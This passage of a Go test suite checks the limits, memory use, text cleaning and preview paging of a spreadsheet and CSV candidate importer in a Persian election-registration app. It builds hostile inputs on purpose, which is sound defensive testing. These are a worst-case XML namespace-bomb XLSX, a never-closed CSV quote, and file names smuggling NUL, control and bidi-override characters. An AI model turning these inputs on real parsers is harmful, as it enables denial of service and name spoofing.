			mustContain(t, rec.Body.String(), tt.want)
			if alloc >= 64<<20 {
				t.Errorf("the import allocated %.1f MiB", float64(alloc)/(1<<20))
			}
		})
	}
	// Just within every limit at once, what excelize holds is within the heap's bound: a style sheet that
	// it decodes whole, of empty cell formats or of formats with their attributes, the rest of what it
	// holds in memory up to its bound, a streamed table of as many shared strings as allowed, and a sheet
	// whose data sits in elements declaring as many namespaces as allowed, which its decoder keeps open.
	for _, tt := range []struct {
		name string
		xf   string
	}{
		{"empty cell formats", `<xf/>`},
		{"cell formats with four attributes", `<xf numFmtId="1" fontId="0" fillId="0" borderId="0"/>`},
		{"cell formats with six attributes", `<xf numFmtId="1" fontId="0" fillId="0" borderId="0" xfId="0" applyFont="1"/>`},
	} {
		file := worstWithinLimits(t, tt.xf)
		body, ct := multipartFile("within.xlsx", file)
		var rec *httptest.ResponseRecorder
		before, peak := peakHeap(func() { rec, _ = a.serveImport(gov, body, ct, false) })
		t.Logf("%s, within every limit (%d KiB): %d; heap %.1f MiB before, %.1f MiB at its peak", tt.name, len(file)>>10, rec.Code, mib(before), mib(peak))
		if rec.Code != http.StatusOK || peak >= 64<<20 {
			t.Errorf("%s, within every limit: %d, heap %.1f MiB at its peak", tt.name, rec.Code, mib(peak))
		}
		mustContain(t, rec.Body.String(), "۱ ردیف آماده ورود")
	}
	// Over the network the browser gets the answer while it is still sending.
	res := a.upload(gov, "tiny.csv", tiny.Bytes())
	if res.status != http.StatusUnprocessableEntity || !strings.Contains(res.body, "هر فایل حداکثر ۲۰٬۰۰۰ ردیف دارد") {
		t.Errorf("over HTTP: %d", res.status)
	}
	if n := a.count(`SELECT count(*) FROM candidate_imports`); n != 3 {
		t.Errorf("%d files kept, want the three within the limits", n)
	}
}

// worstWithinLimits is an XLSX at every limit on what excelize holds at once: cell formats xf in its
// style sheet up to the elements and attributes allowed in the parts held in memory, those parts padded
// to their bound, a streamed shared-strings table of as many strings as allowed, and a sheet whose data
// is wrapped in elements, as deep as allowed, each declaring as many namespaces as a tag may have. Its
// one data row is valid.
func worstWithinLimits(t *testing.T, xf string) []byte {
	t.Helper()
	header := strings.Split(strings.TrimSpace(importHeader), ",")
	var sst strings.Builder
	sst.WriteString(`<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`)
	sst.WriteString(strings.Repeat(`<si><t>x</t></si>`, maxXLSXStrings-len(header)))
	for _, h := range header {
		sst.WriteString(`<si><t>` + h + `</t></si>`)
	}
	sst.WriteString(`</sst>`)
	// The worksheet, its wrappers, sheetData, row, c, is and t are nested.
	wrappers := maxXLSXDepth - 6
	var headerRow strings.Builder
	headerRow.WriteString(`<row>`)
	for i := range header {
		fmt.Fprintf(&headerRow, `<c t="s"><v>%d</v></c>`, maxXLSXStrings-len(header)+i)
	}
	headerRow.WriteString(`</row>`)
	sheet := `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` +
		namespaceBomb(wrappers, maxXLSXTagAttrs, `<sheetData>`+headerRow.String()+xlsxRow(maximalRow(7)...)+`</sheetData>`) +
		strings.Repeat(`<!--`+strings.Repeat(" ", 60000)+`-->`, xlsxInMemory/60000+1) + `</worksheet>` // streamed, as larger than xlsxInMemory
	// The parts the package has besides, with a few elements and attributes, leave the rest to the styles.
	n := maxXLSXElements - 100
	if attrs := strings.Count(xf, `="`); attrs > 0 {
		n = min(n, (maxXLSXAttrs-100)/attrs)
	}
	styles := `<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>` +
		strings.Repeat(xf, n) + `</cellXfs></styleSheet>`
	other := map[string]string{
		"xl/sharedStrings.xml": sst.String(),
		"xl/styles.xml":        styles,
		"xl/_rels/workbook.xml.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="/xl/worksheets/sheet1.xml"/>` +
			`<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="/xl/sharedStrings.xml"/>` +
			`<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="/xl/styles.xml"/></Relationships>`,
		"xl/worksheets/sheet1.xml": sheet,
	}
	file := xlsxParts(t, func(io.Writer) {}, other)
	// Padded to the bound on what is held in memory by a part that is not XML, which is held all the same.
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	var held uint64
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range z.File {
		if f.Name == "xl/worksheets/sheet1.xml" && f.UncompressedSize64 < 1000 {
			continue // the empty sheet xlsxParts wrote after the one given
		}
		if !streamedPart(f) {
			held += f.UncompressedSize64
		}
		if err := zw.Copy(f); err != nil {
			t.Fatal(err)
		}
	}
	w, _ := zw.Create("xl/media/pad.bin")
	_, _ = w.Write(append([]byte{0}, bytes.Repeat([]byte("pad "), int(maxXLSXHeld-held-1000)/4)...))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// Each limit answers 422 with its message, and the row limit refuses one row more than it accepts.
func TestCandidateImportLimits(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	row := func(i int) string {
		return "نام " + strconv.Itoa(i) + ",پدر," + nid(i) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n"
	}
	var over strings.Builder
	over.WriteString(importHeader)
	for i := range maxImportRows + 1 {
		over.WriteString(row(1000 + i))
	}
	wide := importHeader + strings.TrimSuffix(row(1), "\n") + strings.Repeat(",", maxImportColumns-14) + "\n"
	justWideEnough := importHeader + strings.TrimSuffix(row(1), "\n") + strings.Repeat(",", maxImportColumns-15) + "\n"
	long := importHeader + strings.Repeat("ب", maxImportCellChars+1) + ",پدر," + nid(1) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n"
	endless := importHeader + `"` + strings.Repeat("x,", 200<<10) // a quote never closed: one record to the end
	x := excelize.NewFile()
	_ = x.SetSheetRow("Sheet1", "A1", &[]any{"full_name", "national_id"})
	_ = x.SetSheetRow("Sheet1", "A2", &[]any{"کوتاه", nid(1)})
	_ = x.SetSheetRow("Sheet1", "A3", &[]any{strings.Repeat("ب", maxImportCellChars+1), nid(2)})
	var longXLSX bytes.Buffer
	_ = x.Write(&longXLSX)

	for _, tt := range []struct {
		name, file string
		data       []byte
		want       string
	}{
		{"one row over the limit", "over.csv", []byte(over.String()), "هر فایل حداکثر ۲۰٬۰۰۰ ردیف دارد"},
		{"a row of 51 cells", "wide.csv", []byte(wide), "سطر ۲ بیش از ۵۰ ستون دارد"},
		{"a cell of 1,001 characters", "long.csv", []byte(long), "سطر ۲ خانه‌ای بلندتر از ۱٬۰۰۰ نویسه دارد"},
		{"a record without end", "endless.csv", []byte(endless), "فایل متنی بلندتر از ۱٬۰۰۰ نویسه در یک خانه دارد"},
		{"an XLSX cell of 1,001 characters", "long.xlsx", longXLSX.Bytes(), "سطر ۳ خانه‌ای بلندتر از ۱٬۰۰۰ نویسه دارد"},
		{"no header", "none.csv", []byte("a,b\n1,2\n"), "فایل خوانده نشد"},
		{"an empty file", "empty.csv", []byte{}, "فایل خوانده نشد"},
		{"not a zip after all", "broken.xlsx", []byte("PK\x03\x04 and nothing else"), "فایل خوانده نشد"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			res := a.upload(gov, tt.file, tt.data)
			if res.status != http.StatusUnprocessableEntity {
				t.Fatalf("status %d", res.status)
			}
			mustContain(t, res.body, tt.want)
		})
	}
	if res := a.upload(gov, "ok.csv", []byte(justWideEnough)); res.status != http.StatusOK {
		t.Errorf("a row of 50 cells: %d", res.status)
	}

	// Over the byte limit: refused by its Content-Length before a byte is read, or while it is read. Its
	// rows are long, so that the byte limit comes before the row limit.
	big := append([]byte(importHeader), bytes.Repeat([]byte(strings.Repeat("a", 900)+"\n"), maxImportBytes/900+1)...)
	body, ct := multipartFile("big.csv", big)
	for _, chunked := range []bool{false, true} {
		rec, _ := a.serveImport(gov, body, ct, chunked)
		if rec.Code != http.StatusUnprocessableEntity || !strings.Contains(rec.Body.String(), "فایل بزرگ‌تر از ۱۰ مگابایت است") {
			t.Errorf("11 MiB, chunked %v: %d", chunked, rec.Code)
		}
	}
	if n := a.count(`SELECT count(*) FROM candidate_imports`); n != 1 {
		t.Errorf("%d files kept, want the one that passed", n)
	}
}

// NUL bytes and other control characters are cleaned out of cells and file names, a cell that is not
// UTF-8 refuses its row with a message, and nothing of it reaches PostgreSQL as an error.
func TestCandidateImportCleansText(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	file := importHeader +
		"علی\x00 \u202eرضایی\x07,حسن," + nid(71) + ",female,1365/11/01,master,معلم\x1b,marvdasht,,,,,,1405/08/25,\n" +
		"نادرست\x00,رضا,0012345670,female,1365/11/01,master,\x00,marvdasht,,,,,,1405/08/25,\n" +
		"\xd1\xe1\xed,رضا," + nid(72) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n"
	res := a.upload(gov, "c.csv", []byte(file))
	if res.status != http.StatusOK {
		t.Fatalf("NUL bytes in cells: %d", res.status)
	}
	mustContain(t, res.body, "۱ ردیف آماده ورود و ۲ ردیف رد شده", "این خانه متن UTF-8 نیست")
	m := confirmID.FindStringSubmatch(res.body)
	if m == nil {
		t.Fatal("no preview")
	}
	// File names as browsers send them: raw bytes of the user's system, or RFC 2231's encoding, which can
	// carry any byte.
	for _, disposition := range []string{`filename="c` + "\xff\xfe" + `.csv"`, `filename*=UTF-8''a%00b%01%E2%80%AE.csv`,
		`filename="` + strings.Repeat("ن", 5000) + `.csv"`} {
		var body bytes.Buffer
		mw := multipart.NewWriter(&body)
		pw, _ := mw.CreatePart(textproto.MIMEHeader{"Content-Disposition": {`form-data; name="file"; ` + disposition}})
		_, _ = io.WriteString(pw, file)
		_ = mw.Close()
		rec, _ := a.serveImport(gov, body.Bytes(), mw.FormDataContentType(), false)
		if rec.Code != http.StatusOK {
			t.Fatalf("%q: %d\n%s", disposition, rec.Code, rec.Body.String())
		}
		mustContain(t, rec.Body.String(), "۱ ردیف آماده ورود و ۲ ردیف رد شده", "این خانه متن UTF-8 نیست")
	}
	// A header the multipart reader cannot parse is an unreadable file, not a failure.
	if res := a.upload(gov, "a\x01b.csv", []byte(file)); res.status != http.StatusUnprocessableEntity || !strings.Contains(res.body, "فایل خوانده نشد") {
		t.Errorf("a control character in a plain file name: %d", res.status)
	}
	var names []string
	rows, err := a.st.Pool().Query(t.Context(), `SELECT file_name FROM candidate_imports ORDER BY id`)
	if err != nil {
		t.Fatal(err)
	}
	for rows.Next() {
		var n string
		_ = rows.Scan(&n)
		names = append(names, n)
	}
	if len(names) != 4 || names[1] != "c\uFFFD.csv" || names[2] != "ab.csv" || utf8.RuneCountInString(names[3]) != maxImportNameChars ||
		!strings.HasSuffix(names[3], "…") {
		t.Errorf("stored file names: %q", names)
	}
	rejected := a.get(gov, "/candidates/import/"+m[1]+"/rejected.csv").body
	if strings.ContainsAny(rejected, "\x00\x07\x1b\u202e") || !strings.Contains(rejected, "نادرست,رضا") {
		t.Errorf("rejected.csv: %q", rejected)
	}
	if res := a.upload(gov, "", nil, "import", m[1], "confirm", "yes"); res.status != http.StatusSeeOther {
		t.Fatalf("confirm: %d", res.status)
	}
	var name, occupation string
	if err := a.st.Pool().QueryRow(t.Context(), `SELECT full_name, occupation FROM candidates WHERE national_id = $1`, nid(71)).
		Scan(&name, &occupation); err != nil || name != "علی رضایی" || occupation != "معلم" {
		t.Errorf("stored %q %q, %v", name, occupation, err)
	}
}

func TestUTF16Text(t *testing.T) {
	le := func(s string) []byte {
		var b []byte
		for _, u := range utf16.Encode([]rune(s)) {
			b = append(b, byte(u), byte(u>>8))
		}
		return b
	}
	be := func(s string) []byte {
		var b []byte
		for _, u := range utf16.Encode([]rune(s)) {
			b = append(b, byte(u>>8), byte(u))
		}
		return b
	}
	row := "علی رضایی,حسن,0012345679,female,1365/11/01\n"
	for _, tt := range []struct {
		name string
		head []byte
		want bool
	}{
		{"LE with a BOM", append([]byte{0xFF, 0xFE}, le(row)...), true},
		{"BE with a BOM", append([]byte{0xFE, 0xFF}, be(row)...), true},
		{"LE header without a BOM", le(importHeader + row), true},
		{"BE header without a BOM", be(importHeader + row), true},
		{"a BOM alone", []byte{0xFF, 0xFE}, true},
		{"UTF-8", []byte(importHeader + row), false},
		{"UTF-8 with its BOM", []byte("\uFEFF" + importHeader), false},
		{"UTF-8 with NUL bytes in cells", []byte(importHeader + "علی\x00,\x00,\x00\x00,0012345679\n"), false},
		{"an .xls (OLE) header", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 500)...), false},
		{"empty", nil, false},
		{"one byte", []byte{0}, false},
	} {
		if got := utf16Text(tt.head); got != tt.want {
			t.Errorf("%s: %v, want %v", tt.name, got, tt.want)
		}
	}
}

// A carriage return that no line feed follows is a line feed, wherever the reads of the file end.
func TestLoneCR(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"a,b\rc,d\r", "a,b\nc,d\n"},
		{"a,b\r\nc,d\r\n", "a,b\r\nc,d\r\n"},
		{"a\r\rb\r\r\n", "a\n\nb\n\r\n"},
		{"\"x\ry\",z\r", "\"x\ny\",z\n"},
		{"no breaks", "no breaks"},
		{"\r", "\n"},
	} {
		for _, size := range []int{1, 2, 3, 4096} {
			r := bufio.NewReaderSize(iotest.OneByteReader(strings.NewReader(tt.in)), 16)
			var got bytes.Buffer
			buf := make([]byte, size)
			for {
				n, err := loneCR{r}.Read(buf)
				got.Write(buf[:n])
				if err != nil {
					break
				}
			}
			if got.String() != tt.want {
				t.Errorf("%q read %d bytes at a time: %q, want %q", tt.in, size, got.String(), tt.want)
			}
		}
	}
}

func TestCleanText(t *testing.T) {
	for _, tt := range []struct {
		in, want string
		ok       bool
	}{
		{"علی رضایی", "علی رضایی", true},
		{"  علی\u200cرضا  ", "علی\u200cرضا", true}, // the zero-width non-joiner is Persian spelling
		{"a\x00b", "ab", true},
		{"a\tb\r\nc", "a b  c", true},
		{"\ufeffname", "name", true},
		{"a\u202eb\u2066c", "abc", true},
		{"a\u0085b\x7f", "ab", true},
		{"\u200eعلی\u200b\u00ad\u061c\u2063", "علی", true}, // invisible marks, as the form drops them
		{"\xd1\xe1\xed", "\uFFFD", false},
		{"ok\xff", "ok\uFFFD", false},
	} {
		if got, ok := cleanText(tt.in); got != tt.want || ok != tt.ok {
			t.Errorf("cleanText(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

// A file at exactly the row limit is previewed and imported whole: with COPY, one statement for the first
// events and one audit row holding the count and the file's SHA-256.
func TestCandidateImportAtTheRowLimit(t *testing.T) {
	if testing.Short() {
		t.Skip("20,000 rows")
	}
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	var file bytes.Buffer
	file.WriteString("\uFEFF" + importHeader)
	for i := range maxImportRows {
		fmt.Fprintf(&file, "داوطلب %d,پدر,%s,female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n", i, nid(100+i))
	}
	sum := sha256.Sum256(file.Bytes())
	start := time.Now()
	body, ct := multipartFile("all.csv", file.Bytes())
	rec, alloc := a.serveImport(gov, body, ct, false)
	t.Logf("preview of %d rows: %v, %.0f MiB allocated in all", maxImportRows, time.Since(start), float64(alloc)/(1<<20))
	if rec.Code != http.StatusOK {
		t.Fatalf("preview: %d\n%.2000s", rec.Code, rec.Body.String())
	}
	mustContain(t, rec.Body.String(), "۲۰٬۰۰۰ ردیف آماده ورود و ۰ ردیف رد شده")
	m := confirmID.FindStringSubmatch(rec.Body.String())
	if m == nil {
		t.Fatal("no confirmation form")
	}
	start = time.Now()
	if res := a.upload(gov, "", nil, "import", m[1], "confirm", "yes"); res.status != http.StatusSeeOther {
		t.Fatalf("confirm: %d", res.status)
	}
	t.Logf("confirmation of %d rows (locks held within it): %v", maxImportRows, time.Since(start))
	if n := a.count(`SELECT count(*) FROM candidates WHERE full_name LIKE 'داوطلب %' AND registered_by = $1`, a.ids["gov.marvdasht"]); n != maxImportRows {
		t.Errorf("%d candidates, want %d", n, maxImportRows)
	}
	if n := a.count(`SELECT count(*) FROM candidate_events e JOIN candidates k ON k.id = e.candidate_id
		WHERE e.from_status = '' AND e.to_status = 'registered' AND e.actor_id = $1`, a.ids["gov.marvdasht"]); n != maxImportRows {
		t.Errorf("%d first events, want %d", n, maxImportRows)
	}
	if n := a.count(`SELECT count(*) FROM candidates WHERE national_id = $1 AND name_norm = $2`, nid(107), persian.Normalize("داوطلب 7")); n != 1 {
		t.Error("the imported name is not normalised for search")
	}
	var imported int
	var hash string
	if err := a.st.Pool().QueryRow(t.Context(), `SELECT (detail->>'imported')::int, detail->>'sha256' FROM audit_log
		WHERE action = 'candidate.import'`).Scan(&imported, &hash); err != nil {
		t.Fatalf("one audit row for the import: %v", err)
	}
	if imported != maxImportRows || hash != hex.EncodeToString(sum[:]) {
		t.Errorf("audit: %d imported, hash %s; want %d, %x", imported, hash, maxImportRows, sum)
	}
	if n := a.count(`SELECT count(*) FROM audit_log WHERE action = 'candidate.import_preview' AND detail->>'sha256' = $1`, hash); n != 1 {
		t.Error("the preview's audit row lacks the file's hash")
	}
}

// Birth dates outside 18 to 100 years, and certificate or resignation dates with absurd years, are refused
// by the form and by the import alike.
func TestCandidateDatesPlausible(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	for _, tt := range []struct{ field, value, want string }{
		{"birth_date", "0001/01/01", "تاریخ تولد باورپذیر نیست"},
		{"birth_date", "1300/01/01", "تاریخ تولد باورپذیر نیست"},
		{"birth_date", "1390/01/01", "تاریخ تولد باورپذیر نیست"},
		{"certificate_date", "1200/01/01", "این تاریخ باورپذیر نیست"},
		{"resignation_date", "0001/01/01", "این تاریخ باورپذیر نیست"},
		{"resignation_date", "2405/01/01", "این تاریخ باورپذیر نیست"},
	} {
		f := candidateForm("علی رضایی", nid(81), "marvdasht")
		f.Set(tt.field, tt.value)
		res := a.post(gov, "/candidates", f)
		if res.status != http.StatusUnprocessableEntity {
			t.Errorf("form %s %s: %d", tt.field, tt.value, res.status)
		}
		mustContain(t, res.body, tt.want)
	}
	file := importHeader +
		"الف,ب," + nid(82) + ",female,0001/01/01,master,,marvdasht,,,,,,1405/08/25,\n" +
		"پ,ت," + nid(83) + ",female,1365/11/01,master,,marvdasht,,,,,,1200/08/25,\n" +
		"ث,ج," + nid(84) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,0001/01/01\n"
	res := a.upload(gov, "dates.csv", []byte(file))
	mustContain(t, res.body, "۰ ردیف آماده ورود و ۳ ردیف رد شده", "تاریخ تولد باورپذیر نیست", "این تاریخ باورپذیر نیست")
	if n := a.count(`SELECT count(*) FROM candidates`); n != 0 {
		t.Errorf("%d candidates with absurd dates", n)
	}
}

// The preview shows the counts and a page of each kind of row, read from what was kept, and pages through
// each kind on its own; only its owner sees it.
func TestCandidateImportPreviewPages(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	var file strings.Builder
	file.WriteString(importHeader)
	ready, rejected := 0, 0
	for i := range 250 { // every other row refused for its national ID, then ten more
		if i%2 == 0 && i < 240 {
			fmt.Fprintf(&file, "آماده %d,پدر,%s,female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n", ready, nid(500+i))
			ready++
		} else {
			fmt.Fprintf(&file, "رد %d,پدر,0012345670,female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n", rejected)
			rejected++
		}
	}
	res := a.upload(gov, "pages.csv", []byte(file.String()))
	if res.status != http.StatusOK {
		t.Fatalf("preview: %d\n%s", res.status, res.body)
	}
	m := confirmID.FindStringSubmatch(res.body)
	if m == nil {
		t.Fatal("no confirmation form")
	}
	id := m[1]
	tables := func(body string) (ready, rejected []string) {
		t.Helper()
		for _, name := range regexp.MustCompile(`<td>((?:آماده|رد) \d+)</td>`).FindAllStringSubmatch(body, -1) {
			if strings.HasPrefix(name[1], "رد") {
				rejected = append(rejected, name[1])
			} else {
				ready = append(ready, name[1])
			}
		}
		return ready, rejected
	}
	readyNames, rejectedNames := tables(res.body)
	mustContain(t, res.body, "۱۲۰ ردیف آماده ورود و ۱۳۰ ردیف رد شده", "صفحه ۱ از ۲",
		`href="/candidates/import/`+id+`?ready=1&amp;rejected=2#rejected-rows"`, `href="/candidates/import/`+id+`?ready=2&amp;rejected=1#ready-rows"`)
	if len(readyNames) != importPageRows || readyNames[0] != "آماده 0" || len(rejectedNames) != importPageRows || rejectedNames[99] != "رد 99" {
		t.Errorf("first page: %d ready from %q, %d rejected to %q", len(readyNames), readyNames[0], len(rejectedNames), rejectedNames[len(rejectedNames)-1])
	}

	page := a.get(gov, "/candidates/import/"+id+"?ready=1&rejected=2")
	readyNames, rejectedNames = tables(page.body)
	if page.status != http.StatusOK || len(readyNames) != importPageRows || readyNames[0] != "آماده 0" ||
		len(rejectedNames) != 30 || rejectedNames[0] != "رد 100" || rejectedNames[29] != "رد 129" {
		t.Errorf("second page of rejected rows: %d, %d ready, rejected %q", page.status, len(readyNames), rejectedNames)
	}
	mustContain(t, page.body, "صفحه ۲ از ۲", `name="import" value="`+id+`"`)
	// A page past the end is the last one.
	readyNames, _ = tables(a.get(gov, "/candidates/import/"+id+"?ready=9").body)
	if len(readyNames) != 20 || readyNames[19] != "آماده 119" {
		t.Errorf("ready rows past the end: %q", readyNames)
	}
	for _, path := range []string{"/candidates/import/" + id, "/candidates/import/" + id + "/rejected.csv"} {
		if res := a.get(a.login("hq.fars"), path); res.status != http.StatusNotFound {
			t.Errorf("another user's %s: %d", path, res.status)
		}
	}
	if res := a.upload(gov, "", nil, "import", id, "confirm", "yes"); res.status != http.StatusSeeOther {
		t.Fatalf("confirm: %d", res.status)
	}
	if n := a.count(`SELECT count(*) FROM candidates WHERE full_name LIKE 'آماده %'`); n != 120 {
		t.Errorf("%d imported, want 120", n)
	}
}

// maximalRow is a full, valid row of an import file, different for each i: what a careful clerk types.
func maximalRow(i int) []string {
	gender, service := "female", ""
	if i%2 == 1 {
		gender, service = "male", "completed"
	}
	return []string{"محمدرضا کاظمی‌نژاد " + strconv.Itoa(i), "عبدالحسین", nid(100 + i), gender, "1365/11/01", "master",
		"دبیر آموزش و پرورش", "marvdasht", fmt.Sprintf("0917%07d", i), fmt.Sprintf("1405-%06d", i), "0", service, "0",
		"1405/08/25", ""}
}

// peakHeap runs f and returns the heap before it and the largest heap seen while it ran, read from
// runtime/metrics every millisecond. The objects counted include garbage not yet collected, so the
// collector is made to run whenever the heap has grown by a fifth (GOGC=20) for the duration: what is
// sampled then stays within about 1.2 times what is live, and the peak is an upper bound of the live
// peak rather than a measure of how much garbage the request made (which serveImport's total shows).
func peakHeap(f func()) (before, peak uint64) {
	defer debug.SetGCPercent(debug.SetGCPercent(20))
	sample := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
	read := func() uint64 {
		metrics.Read(sample)
		return sample[0].Value.Uint64()
	}
	runtime.GC()
	before = read()
	done := make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() {
		tick := time.NewTicker(time.Millisecond)
		defer tick.Stop()
		for {
			peak = max(peak, read())
			select {
			case <-done:
				return
			case <-tick.C:
			}
		}
	})
	f()
	close(done)
	wg.Wait()
	return before, max(peak, read())
}

// A legitimate file at every limit that a valid file can reach (20,000 full rows) is previewed and
// imported, as CSV and as XLSX, with the process's live heap (the test's own copy of the file included)
// staying under 64 MiB at its peak.
func TestCandidateImportMaximalFileMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("20,000 rows, twice")
	}
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	header := strings.Split(strings.TrimSpace(importHeader), ",")

	var csvFile bytes.Buffer
	cw := csv.NewWriter(&csvFile)
	_ = cw.Write(header)
	for i := range maxImportRows {
		_ = cw.Write(maximalRow(i))
	}
	cw.Flush()
	// An XLSX as spreadsheet programs write it: every text in the shared strings table.
	x := excelize.NewFile()
	_ = x.SetSheetRow("Sheet1", "A1", &header)
	for i := range maxImportRows {
		row := maximalRow(maxImportRows + i)
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		_ = x.SetSheetRow("Sheet1", cell, &row)
	}
	var xlsxFile bytes.Buffer
	if err := x.Write(&xlsxFile); err != nil {
		t.Fatal(err)
	}
	_ = x.Close()

	for _, tt := range []struct {
		name string
		data []byte
	}{
		{"maximal.csv", csvFile.Bytes()},
		{"maximal.xlsx", xlsxFile.Bytes()},
	} {
		t.Run(tt.name, func(t *testing.T) {
			body, ct := multipartFile(tt.name, tt.data)
			var rec *httptest.ResponseRecorder
			var alloc uint64
			start := time.Now()
			before, peak := peakHeap(func() { rec, alloc = a.serveImport(gov, body, ct, false) })
			t.Logf("preview of %s (%d KiB): %v; heap %.1f MiB before, %.1f MiB at its peak; %.0f MiB allocated in all",
				tt.name, len(tt.data)>>10, time.Since(start), mib(before), mib(peak), mib(alloc))
			if rec.Code != http.StatusOK {
				t.Fatalf("preview: %d\n%.2000s", rec.Code, rec.Body.String())
			}
			mustContain(t, rec.Body.String(), "۲۰٬۰۰۰ ردیف آماده ورود و ۰ ردیف رد شده")
			if rows := strings.Count(rec.Body.String(), "<tr>"); rows > importPageRows+1 {
				t.Errorf("the preview shows %d rows", rows)
			}
			if peak >= 64<<20 {
				t.Errorf("the preview's heap peaked at %.1f MiB", mib(peak))
			}
			m := confirmID.FindStringSubmatch(rec.Body.String())
			if m == nil {
				t.Fatal("no confirmation form")
			}
			var confirm bytes.Buffer
			mw := multipart.NewWriter(&confirm)
			_ = mw.WriteField("import", m[1])
			_ = mw.WriteField("confirm", "yes")
			_ = mw.Close()
			rec = nil
			start = time.Now()
			before, peak = peakHeap(func() { rec, alloc = a.serveImport(gov, confirm.Bytes(), mw.FormDataContentType(), false) })
			t.Logf("confirmation: %v; heap %.1f MiB before, %.1f MiB at its peak; %.0f MiB allocated in all",
				time.Since(start), mib(before), mib(peak), mib(alloc))
			if rec.Code != http.StatusSeeOther {
				t.Fatalf("confirm: %d\n%.2000s", rec.Code, rec.Body.String())
			}
			if peak >= 64<<20 {
				t.Errorf("the confirmation's heap peaked at %.1f MiB", mib(peak))
			}
		})
	}
	if n := a.count(`SELECT count(*) FROM candidates WHERE phone LIKE '0917%' AND tracking_id LIKE '1405-%'`); n != 2*maxImportRows {
		t.Errorf("%d candidates imported, want %d", n, 2*maxImportRows)
	}
}

func mib(n uint64) float64 { return float64(n) / (1 << 20) }

// A workbook as spreadsheet programs write it is read whole although every part is scanned: a picture and
// printer settings, which are not XML, and shapes whose VML leaves <br> open (Excel writes it so: forty in
// all, more than the depth allowed) are read only up to where an XML decoder stops, as excelize's would.
func TestCandidateImportXLSXWithOtherParts(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	header := strings.Split(strings.TrimSpace(importHeader), ",")
	x := excelize.NewFile()
	_ = x.SetSheetRow("Sheet1", "A1", &header)
	row := []string{"علی رضایی", "حسن", nid(91), "female", "1365/11/01", "master", "", "marvdasht", "", "", "", "", "", "1405/08/25", ""}
	_ = x.SetSheetRow("Sheet1", "A2", &row)
	var pngFile bytes.Buffer
	img := image.NewRGBA(image.Rect(0, 0, 40, 40))
	for i := range img.Pix {
		img.Pix[i] = byte(i * 7)
	}
	if err := png.Encode(&pngFile, img); err != nil {
		t.Fatal(err)
	}
	if err := x.AddPictureFromBytes("Sheet1", "Q1", &excelize.Picture{Extension: ".png", File: pngFile.Bytes()}); err != nil {
		t.Fatal(err)
	}
	if err := x.AddComment("Sheet1", excelize.Comment{Cell: "A2", Author: "ستاد", Paragraph: []excelize.RichTextRun{{Text: "یادداشت"}}}); err != nil {
		t.Fatal(err)
	}
	var made bytes.Buffer
	if err := x.Write(&made); err != nil {
		t.Fatal(err)
	}
	// The same zip with printer settings (a DEVMODE: UTF-16 and binary) and Excel's VML of a note.
	z, err := zip.NewReader(bytes.NewReader(made.Bytes()), int64(made.Len()))
	if err != nil {
		t.Fatal(err)
	}
	var file bytes.Buffer
	zw := zip.NewWriter(&file)
	for _, f := range z.File {
		if err := zw.Copy(f); err != nil {
			t.Fatal(err)
		}
	}
	devmode := append([]byte("H\x00P\x00 \x00L\x00a\x00s\x00e\x00r\x00J\x00e\x00t\x00"), bytes.Repeat([]byte{0, 1, 0x80, 0xff, '<', 'a', '>'}, 200)...)
	vml := `<xml xmlns:v="urn:schemas-microsoft-com:vml">` + strings.Repeat(`<v:shape><v:textbox><div style='text-align:left'>`+
		strings.Repeat("سطر<br>\r\n", 5)+`</div></v:textbox></v:shape>`, 8) + `</xml>`
